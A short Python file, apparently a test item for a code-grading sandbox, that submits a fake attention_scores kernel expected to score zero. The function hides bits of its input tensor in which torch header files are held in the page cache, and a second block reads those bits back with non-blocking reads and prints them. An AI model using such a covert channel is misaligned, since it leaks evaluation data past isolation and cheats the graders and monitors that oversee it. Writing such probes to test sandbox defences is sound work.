# INTENT: which pages of shared files are in memory, as bits for the page's kernel.
# EXERCISE: attention_scores
# EXPECT: wrong or error; score 0
import os, glob
files = sorted(glob.glob(torch.__path__[0] + "/include/**/*.h", recursive=True))
fs = [f for f in files if 4096 < os.path.getsize(f) < 16384][:2000]
sent = []
def attention_scores(query, key):
    if not sent:
        bits = "".join(f"{b:08b}" for b in query.flatten().numpy().tobytes()[:64])
        for f, b in zip(fs, bits):
            fd = os.open(f, os.O_RDONLY)
            os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
            if b == "1": os.read(fd, 4096)
            os.close(fd)
        sent.append(bits)
    return torch.zeros(1)

buf, got = bytearray(1), []
for f in fs:
    fd = os.open(f, os.O_RDONLY)
    try: os.preadv(fd, [buf], 0, os.RWF_NOWAIT); got.append("1")
    except BlockingIOError: got.append("0")
    except OSError: got.append("?")
    os.close(fd)
print(bytes(int("".join(got[i:i + 8]).replace("?", "0") or "0", 2) for i in range(0, 512, 8)).hex())
